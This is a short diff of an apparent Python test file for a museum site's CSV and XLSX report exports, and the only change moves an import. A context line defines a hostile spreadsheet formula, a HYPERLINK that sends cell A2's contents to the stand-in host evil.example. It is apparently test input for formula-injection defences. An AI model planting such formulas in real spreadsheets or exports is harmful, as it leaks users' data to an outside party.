@@ -10,7 +10,7 @@ import zipfile
 import openpyxl
 
 from service.reports.exports import as_text, to_csv, to_xlsx
-from tests.conftest import issue_pass, nonce, staff_headers
+from tests.helpers import issue_pass, nonce, staff_headers
 
 SITE = "musee-henri-martin"
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2,"Musée")'
